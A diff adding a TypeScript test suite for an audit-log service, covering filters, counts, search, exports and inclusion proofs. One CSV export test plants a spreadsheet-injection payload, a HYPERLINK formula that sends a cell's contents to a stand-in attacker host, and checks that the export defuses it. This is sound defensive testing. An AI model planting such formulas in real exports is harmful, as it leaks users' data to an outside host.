@@ -1,0 +1,331 @@
+// The lists of the audit trail: what they are narrowed to and how many there are, beside a model of its own.
+import {
+  AuditExport,
+  countAuditEntries,
+  exportAuditLogs,
+  listAuditEntries,
+  readInclusionProof,
+} from "@strongroom/contract";
+import type { AuditEntryId, AuditLog, InputOf } from "@strongroom/contract";
+import { encodeEntry, leafHash, verifyInclusion } from "@strongroom/auditlog";
+import type { AuditEntry } from "@strongroom/auditlog";
+import assert from "node:assert/strict";
+import { randomUUID } from "node:crypto";
+import { after, before, describe, it } from "node:test";
+import { parse } from "csv-parse/sync";
+import { appendAudit } from "#kernel/audit/append.ts";
+import { newId } from "#kernel/id.ts";
+import { ADA, audited } from "#testing/audited.ts";
+import type { Audited } from "#testing/audited.ts";
+import { spansOf } from "./counts.store.ts";
+
+type Query = NonNullable<InputOf<typeof listAuditEntries>["query"]>;
+
+interface Listed {
+  status: number;
+  text: string;
+  body: { logs: AuditLog[]; next_cursor: string | null };
+}
+
+const START = Date.parse("2026-11-18T22:17:31.000Z");
+const BOB = { id: newId(), name: "Bob", role: "user" };
+const PEOPLE = [{ id: ADA.id, name: ADA.name, role: "admin" }, BOB];
+const GRANTS = [newId(), newId()];
+const THINGS = [
+  { type: "account", id: newId(), name: "Billing database" },
+  { type: "account", id: newId(), name: "100%_sure" },
+  { type: "credential", id: newId(), name: "Mailbox" },
+];
+const EVENTS = [
+  "account.validated",
+  "credential.verified",
+  "verification.started",
+  "account.retrieved",
+  "safe.updated",
+];
+
+/** Three days of entries, some minutes apart; small enough to be looked through one by one, mixed enough to have all kinds. */
+function someEntries(): AuditEntry[] {
+  let [seed, at] = [7, START];
+  const pick = <T>(from: readonly T[]): T => {
+    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
+    return from[Math.floor((seed / 2_147_483_648) * from.length)]!;
+  };
+  return Array.from({ length: 260 }, () => {
+    at += pick([1000, 60_000, 900_000, 2_400_000]);
+    const result = pick(["success", "success", "success", "failure", "warning", "info"] as const);
+    const severity = result === "failure" ? pick(["critical", "high", "medium"] as const) : undefined;
+    const grant = pick([undefined, undefined, ...GRANTS]);
+    return {
+      v: 1,
+      id: newId(at),
+      at: new Date(at).toISOString(),
+      actor: pick([...PEOPLE, { system: "verification" }]),
+      event: pick(EVENTS),
+      target: pick(THINGS),
+      result,
+      ...(severity === undefined ? {} : { severity }),
+      details: {
+        host: pick(["db1.example.com", "mail.example.com"]),
+        ...(grant === undefined ? {} : { request: grant, session_name: "Restart the queue" }),
+      },
+    };
+  });
+}
+
+const entries = someEntries();
+const newestFirst = entries.toSorted((a, b) => (a.id < b.id ? 1 : -1));
+let trail: Audited;
+
+before(async () => {
+  trail = await audited();
+  // The newest wait for their place: lists and counters have them too.
+  for (const [from, to, isSequenced] of [
+    [0, 90, true],
+    [90, 240, true],
+    [240, 260, false],
+  ] as const) {
+    await trail.database.transaction((tx) => appendAudit(tx, entries.slice(from, to)));
+    if (isSequenced) await trail.audit.sequence();
+  }
+});
+after(() => trail.close());
+
+async function listed(query: Query): Promise<string[]> {
+  const ids: string[] = [];
+  let cursor: string | null = null;
+  do {
+    const given: Query = { ...query, limit: 40, ...(cursor === null ? {} : { cursor }) };
+    const { body, status, text }: Listed = await trail.call(listAuditEntries, { query: given, as: "manager" } as never);
+    assert.equal(status, 200, text);
+    ids.push(...body.logs.map(({ id }: AuditLog) => id));
+    cursor = body.next_cursor;
+  } while (cursor !== null);
+  return ids;
+}
+
+async function counted(query: Query) {
+  const { body, status, text } = await trail.call(countAuditEntries, { query, as: "manager" } as never);
+  assert.equal(status, 200, text);
+  return body;
+}
+
+const grantIn = ({ details }: AuditEntry): boolean => typeof details?.["request"] === "string";
+const isVerified = ({ event }: AuditEntry): boolean => ["account.validated", "credential.verified"].includes(event);
+const statusOf = ({ result }: AuditEntry): string => (["success", "failure"].includes(result) ? result : "pending");
+const actorId = ({ actor }: AuditEntry): string | null => ("id" in actor ? actor.id : null);
+
+/** What each part of the filter means, said as plainly as can be. */
+const MEANS: { [K in keyof Query]?: (entry: AuditEntry, wanted: string) => boolean } = {
+  view: (entry, view) =>
+    view === "regular"
+      ? isVerified(entry) && !grantIn(entry)
+      : view === "jit"
+        ? isVerified(entry) && grantIn(entry)
+        : view === "all" || entry.severity === "critical",
+  scope: (entry, scope) => scope === "everything" || isVerified(entry) || entry.event.startsWith("verification."),
+  status: (entry, status) => statusOf(entry) === status,
+  severity: (entry, severity) => (entry.severity ?? "low") === severity,
+  event: (entry, event) => entry.event === event,
+  result: (entry, result) => entry.result === result,
+  actor_id: (entry, id) => actorId(entry) === id,
+  target_id: (entry, id) => entry.target?.id === id,
+  from: (entry, from) => entry.at >= from,
+  to: (entry, to) => entry.at <= to,
+};
+
+const matching = (query: Query): AuditEntry[] =>
+  newestFirst.filter((entry) =>
+    Object.entries(query).every(([name, wanted]) => MEANS[name as keyof Query]!(entry, String(wanted))),
+  );
+
+const at = (hours: number): string => new Date(START + hours * 3_600_000).toISOString();
+const QUERIES: Query[] = [
+  {},
+  { view: "regular" },
+  { view: "jit" },
+  { view: "critical" },
+  { view: "jit", status: "failure" },
+  { view: "critical", severity: "high" },
+  { scope: "verification" },
+  { scope: "verification", view: "critical" },
+  { scope: "verification", event: "safe.updated" },
+  { status: "success" },
+  { status: "failure" },
+  { status: "pending" },
+  { status: "pending", result: "info" },
+  { severity: "critical" },
+  { severity: "medium", view: "regular" },
+  { severity: "low" },
+  { event: "account.retrieved", result: "failure" },
+  { actor_id: ADA.id },
+  { actor_id: ADA.id, status: "failure", from: at(10) },
+  { target_id: THINGS[0]!.id, view: "jit" },
+  { from: at(1), to: at(50) },
+  { from: at(5), to: at(5.5), status: "success" },
+  { from: at(30) },
+  { to: at(30), severity: "critical" },
+  { from: at(60), to: at(2) },
+] as Query[];
+
+describe("a list of the audit trail", () => {
+  it("AUDIT-02, AUDIT-04 to AUDIT-07, AUDIT-15, OPEN-130, OPEN-131: shows and counts exactly what its filter lets through", async () => {
+    for (const query of QUERIES) {
+      const wanted = matching(query);
+      const label = JSON.stringify(query);
+      assert.deepEqual(
+        await listed(query),
+        wanted.map(({ id }) => id),
+        label,
+      );
+      const figures = {
+        total: wanted.length,
+        successful: wanted.filter(({ result }) => result === "success").length,
+        failed: wanted.filter(({ result }) => result === "failure").length,
+        jit: wanted.filter(grantIn).length,
+        is_exact: true,
+      };
+      assert.deepEqual(await counted(query), figures, label);
+    }
+  });
+
+  it("AUDIT-03: finds by the name of a person, a thing, a host or an event, by an address and by an id", async () => {
+    const idsOf = (is: (entry: AuditEntry) => boolean) => newestFirst.filter(is).map(({ id }) => id);
+    // What waits for its place was called the same before.
+    const searches: [string, (entry: AuditEntry) => boolean][] = [
+      ["billing", ({ target }) => target?.name === "Billing database"],
+      ["BOB", (entry) => actorId(entry) === BOB.id],
+      ["ada@example", (entry) => actorId(entry) === ADA.id],
+      ["account retrieved", ({ event }) => event === "account.retrieved"],
+      ["safe.upd", ({ event }) => event === "safe.updated"],
+      ["%_s", ({ target }) => target?.name === "100%_sure"],
+      [THINGS[2]!.id.toUpperCase(), ({ target }) => target?.id === THINGS[2]!.id],
+      [entries[5]!.id, ({ id }) => id === entries[5]!.id],
+      ["nobody is called that", () => false],
+      ["%", ({ target }) => target?.name === "100%_sure"],
+    ];
+    for (const [search, is] of searches) {
+      assert.deepEqual(await listed({ search } as Query), idsOf(is), search);
+      assert.equal((await counted({ search } as Query)).total, idsOf(is).length, search);
+    }
+    const narrowed = { search: "billing", view: "critical", from: at(4) } as Query;
+    const both = (entry: AuditEntry) =>
+      entry.target?.name === "Billing database" && entry.severity === "critical" && entry.at >= at(4);
+    assert.deepEqual(await listed(narrowed), idsOf(both));
+  });
+
+  it("AUDIT-14: says which verification an entry is, under which grant, and how grave", async () => {
+    const { body } = await trail.call(listAuditEntries, { query: { limit: 200 }, as: "admin" } as never);
+    for (const log of body.logs as AuditLog[]) {
+      const entry = entries.find(({ id }) => id === log.id)!;
+      const isCritical = grantIn(entry) && entry.result === "failure" && entry.severity === "critical";
+      const type = grantIn(entry) ? "jit_account_verification" : "account_verification";
+      const wanted = isVerified(entry) ? (isCritical ? "jit_critical_verification_failure" : type) : null;
+      assert.equal(log.event_type, wanted);
+      assert.equal(log.session_name, grantIn(entry) ? "Restart the queue" : null);
+      assert.equal(log.details.severity, entry.severity ?? "low");
+      assert.equal(log.details.hostname, entry.details?.["host"]);
+    }
+  });
+
+  it("counts on when entries get their places, each once", async () => {
+    const earlier = (await counted({})).total;
+    await trail.audit.sequence();
+    assert.equal((await counted({})).total, earlier);
+    const { rows } = await trail.database.pool.query(
+      "select span, sum(entries)::int as n from audit_counts group by 1",
+    );
+    assert.deepEqual(
+      rows.map(({ n }) => n),
+      [260, 260],
+    );
+  });
+});
+
+it("a time is made of whole days and hours that are counted already, and of the minutes at its ends", () => {
+  const hour = 3_600_000;
+  for (const [from, to] of [
+    [0.5, 0.7],
+    [0.5, 1.2],
+    [1, 2],
+    [0.5, 30.2],
+    [3, 100],
+    [0, 24],
+    [24.5, 47.9],
+    [0.1, 240],
+  ]) {
+    const { kept, counted: minutes } = spansOf(from! * hour, to! * hour);
+    const pieces = [...kept.map((range) => [range.from!, range.to!]), ...minutes].filter(([a, b]) => a !== b);
+    pieces.sort(([a], [b]) => a! - b!);
+    assert.equal(pieces[0]![0], from! * hour);
+    assert.equal(pieces.at(-1)![1], to! * hour);
+    for (const [place, piece] of pieces.slice(1).entries()) assert.equal(piece[0], pieces[place]![1], `${from} ${to}`);
+    for (const { span, from: begin, to: end } of kept) {
+      const length = span === "day" ? 24 * hour : hour;
+      assert.deepEqual([begin! % length, end! % length], [0, 0]);
+    }
+    assert.ok(minutes.every(([a, b]) => b - a < 2 * hour));
+  }
+  assert.deepEqual(spansOf(null, null), { kept: [{ span: "day", from: null, to: null }], counted: [] });
+});
+
+describe("an export of the audit trail", () => {
+  const exported = (query: object) => trail.call(exportAuditLogs, { query, as: "manager" } as never);
+
+  it("AUDIT-19, AUDIT-20: as JSON holds the logs, the filters, when it was exported and how many, and is on record", async () => {
+    trail.at("2026-11-21T23:30:00.000Z");
+    const answer = await exported({ view: "critical" });
+    assert.match(String(answer.headers["content-disposition"]), /filename="audit-logs-2026-11-21.json"/);
+    assert.match(String(answer.headers["content-type"]), /^application\/json/);
+    const file = AuditExport.parse(JSON.parse(answer.text));
+    const wanted = matching({ view: "critical" } as Query);
+    assert.deepEqual(
+      file.logs.map(({ id }) => id),
+      wanted.map(({ id }) => id),
+    );
+    assert.equal(file.total_records, wanted.length);
+    assert.deepEqual(file.filters, { view: "critical", scope: "everything" });
+    assert.equal(file.exported_at, "2026-11-21T23:30:00.000Z");
+    const [record] = (await trail.call(listAuditEntries, { query: { event: "audit.exported" }, as: "admin" } as never))
+      .body.logs;
+    assert.deepEqual(record?.metadata["filters"], { view: "critical", scope: "everything" });
+    assert.equal((await exported({ limit: 10_001 })).status, 400);
+  });
+
+  it("as CSV has a line for each entry; no name in it is a formula", async () => {
+    const name = '=HYPERLINK("https://evil.example/?"&A1)';
+    const target = { type: "safe", id: randomUUID(), name };
+    await trail.record(1, { target, reason: "x;=1+1" }, "safe.created");
+    const answer = await exported({ format: "csv", target_id: target.id });
+    assert.match(String(answer.headers["content-type"]), /^text\/csv/);
+    const [line] = parse(answer.text, { columns: true }) as Record<string, string>[];
+    assert.equal(line?.["target"], `'${name}`);
+    assert.ok(line?.["details"]?.includes(`"reason":"x;'=1+1"`), line?.["details"]);
+    for (const cell of Object.values(line!)) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
+  });
+
+  it("as lines for a SIEM has one for each entry, with its id", async () => {
+    for (const format of ["rfc5424", "cef", "ocsf"]) {
+      const answer = await exported({ format, event: "account.retrieved" });
+      const wanted = matching({ event: "account.retrieved" } as Query);
+      const lines = answer.text.trimEnd().split("\n");
+      assert.equal(lines.length, wanted.length, format);
+      lines.forEach((line, place) => assert.ok(line.includes(wanted[place]!.id), format));
+    }
+  });
+});
+
+it("an entry shows its inclusion proof, which holds for the root that the checkpoint signs", async () => {
+  await trail.audit.sequence();
+  const entry = entries[17]!;
+  const { body, text } = await trail.call(readInclusionProof, {
+    params: { id: entry.id as AuditEntryId },
+    as: "manager",
+  });
+  const bytes = (hash: string) => Buffer.from(hash, "base64");
+  const leaf = leafHash(encodeEntry(entry));
+  assert.equal(body.leaf_hash, leaf.toString("base64"), text);
+  assert.ok(body.checkpoint.includes(`\n${body.tree_size}\n${body.root_hash}\n`));
+  const { leaf_index: index, tree_size: size } = body;
+  assert.ok(verifyInclusion({ index, size, leaf, proof: body.hashes.map(bytes), root: bytes(body.root_hash) }));
+});
